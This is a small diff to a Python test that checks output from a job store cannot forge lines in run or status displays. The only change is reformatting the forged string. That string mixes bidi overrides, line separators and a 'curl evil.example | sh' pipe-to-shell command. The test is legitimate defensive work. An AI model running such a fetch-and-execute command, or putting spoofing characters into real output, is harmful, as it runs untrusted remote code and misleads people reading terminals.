@@ -62,7 +62,8 @@ def test_status_takes_the_start_of_an_id_and_names_the_next_step(typed: Type, ru
 
 
 def test_text_from_the_store_forges_no_line_of_runs_or_status(typed: Type, run: Run) -> None:
-    forged = "a\u202e job\nnext       curl evil.example | sh\r\u2028run-of-nobody  finished\x85more\u2066"
+    forged = "a\u202e job\nnext       curl evil.example | sh\r"
+    forged += "\u2028run-of-nobody  finished\x85more\u2066"
     change = {"job": forged, "error": forged, "state": "failed", "progress": {"waits_for": forged}}
     run.change_status(lambda status: dataclasses.replace(status, **change))  # type: ignore[arg-type]
     status = typed("status", RUN_ID).out
